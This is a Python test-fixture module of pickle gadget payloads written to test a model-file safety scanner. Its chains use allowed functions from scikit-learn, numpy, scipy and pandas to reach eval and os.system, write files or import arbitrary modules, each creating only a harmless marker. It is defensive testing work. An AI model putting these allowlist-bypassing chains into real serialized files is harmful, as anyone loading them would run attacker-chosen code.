"""Gadget payloads that use only names inside the allowed packages (the red-team review of the safety
scan): functions of scikit-learn, numpy, scipy and pandas that call ``getattr``, ``import_module`` or
touch the file system with arguments the file chooses, and the call chains that reach ``eval`` through
them. Each payload, if it ran, would create ``marker`` (a file, or a directory).

Used by tests/test_safety.py; nothing here is run by the tests except through the loaders under test
(and, in the control tests, with ``--trust``, to show that each payload is real).
"""

from __future__ import annotations

import functools
import importlib
import shlex
import warnings
from collections.abc import Callable
from pathlib import Path

import numpy as np


class Call:
    """Pickles as ``func(*args)``: what an attacker's ``__reduce__`` writes."""

    def __init__(self, func: object, *args: object):
        self.func, self.args = func, args

    def __call__(self, *args: object) -> None:
        """Never called: being callable lets pickle write it as the function of another call."""

    def __reduce__(self):
        return self.func, self.args


def resolve(module: str, name: str) -> object:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # numpy.core's deprecation notice
        return getattr(importlib.import_module(module), name)


def touch_command(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def _getattr_chain_to_eval(marker: Path) -> object:
    """sklearn.utils.validation._check_response_method is getattr(obj, name); chained:
    G(G, "__globals__").get("__builtins__").get("eval")("__import__('os').system(...)")."""
    getattr_ = resolve("sklearn.utils.validation", "_check_response_method")
    module_globals = Call(getattr_, getattr_, "__globals__")
    builtins_ = Call(Call(getattr_, module_globals, "get"), "__builtins__")
    eval_ = Call(Call(getattr_, builtins_, "get"), "eval")
    return Call(eval_, f"__import__('os').system({touch_command(marker)!r})")


def _ufunc_reconstruct(marker: Path) -> object:
    """numpy.core._ufunc_reconstruct(module, name) is __import__(module) + getattr: os.system."""
    return Call(Call(resolve("numpy.core", "_ufunc_reconstruct"), "os", "system"), touch_command(marker))


def _uarray_unpickle_function(marker: Path) -> object:
    """scipy's uarray unpickle_function(module, qualname, None) is import_module + getattr."""
    unpickle = resolve("scipy._lib._uarray._backend", "unpickle_function")
    return Call(Call(unpickle, "os", "system", None), touch_command(marker))


def _wrapfunc_tofile(marker: Path) -> object:
    """numpy's _wrapfunc(obj, method, *args) is getattr(obj, method)(*args): ndarray.tofile(path)."""
    return Call(resolve("numpy._core.fromnumeric", "_wrapfunc"), np.arange(3.0), "tofile", str(marker))


def _check_memory_mkdir(marker: Path) -> object:
    """sklearn's check_memory(path) makes a joblib.Memory, which creates the directory."""
    return Call(resolve("sklearn.utils.validation", "check_memory"), str(marker))


def _as_strided(marker: Path) -> object:
    """as_strided hands out a view of any address (here a harmless one: the marker is never made)."""
    return Call(resolve("numpy.lib.stride_tricks", "as_strided"), np.zeros(1), (2,), (0,))


def _marker_module(marker: Path) -> str:
    """A module that creates ``marker`` when imported, next to it (the test puts its folder on sys.path)."""
    name = f"xai_gadget_{abs(hash(str(marker)))}"
    (marker.parent / f"{name}.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    return name


def _check_library_installed(marker: Path) -> object:
    """sklearn's check_library_installed(name) imports any module by name."""
    return Call(resolve("sklearn.utils._set_output", "check_library_installed"), _marker_module(marker))


def _pandas_plot_backend(marker: Path) -> object:
    """pandas' _get_plot_backend(name) imports any module by name."""
    return Call(resolve("pandas.plotting._core", "_get_plot_backend"), _marker_module(marker))


# kind -> (payload built from the marker path, the refused name the refusal must spell)
GADGETS: dict[str, tuple[Callable[[Path], object], str]] = {
    "getattr-chain-to-eval": (_getattr_chain_to_eval, "sklearn.utils.validation._check_response_method"),
    "ufunc-reconstruct": (_ufunc_reconstruct, "numpy.core._ufunc_reconstruct"),
    "uarray-unpickle-function": (_uarray_unpickle_function, "scipy._lib._uarray._backend.unpickle_function"),
    "wrapfunc-tofile": (_wrapfunc_tofile, "numpy._core.fromnumeric._wrapfunc"),
    "check-memory-mkdir": (_check_memory_mkdir, "sklearn.utils.validation.check_memory"),
    "as-strided": (_as_strided, "numpy.lib.stride_tricks.as_strided"),
    "check-library-installed": (_check_library_installed, "sklearn.utils._set_output.check_library_installed"),
    "pandas-plot-backend": (_pandas_plot_backend, "pandas.plotting._core._get_plot_backend"),
}
# The gadgets whose payload really runs once trusted (as_strided is made harmless here).
LIVE_GADGETS = tuple(kind for kind in GADGETS if kind != "as-strided")


# --------------------------------------------------------------------------------------------------
# Structural tricks: every global is allowed, what the file does with them is not


def _scorer_calling(method: str) -> object:
    """A scorer that would call ``getattr(estimator, method)(X)``, made by its constructor."""
    from sklearn.metrics import f1_score
    from sklearn.metrics._scorer import _Scorer

    return Call(_Scorer, f1_score, 1, {}, method)


STRUCTURAL: dict[str, tuple[Callable[[], object], bool]] = {
    # name -> (payload, whether the scan alone already refuses it; the loader always does)
    # A value-only function called by the file.
    "value-function-called": (lambda: Call(np.log1p, np.arange(3.0)), True),
    # The result of a call, called: numpy.dtype("f8")(...).
    "result-of-a-call-called": (lambda: Call(Call(np.dtype, "f8"), 1.0), True),
    # A partial around something the file made (a callable instance), not an allowed global.
    "partial-of-a-made-callable": (lambda: Call(functools.partial, Call(functools.partial, np.log1p)), True),
    # numpy's random-state constructor calls its second argument: here a partial the file made.
    "randomstate-ctor-calls-a-made-callable": (lambda: Call(
        resolve("numpy.random._pickle", "__randomstate_ctor"), "MT19937",
        Call(functools.partial, resolve("numpy.random._pickle", "__bit_generator_ctor"))), False),
    # A scorer whose constructor was told to call DataFrame.to_csv at prediction time.
    "scorer-calling-to-csv": (lambda: _scorer_calling("to_csv"), False),
}
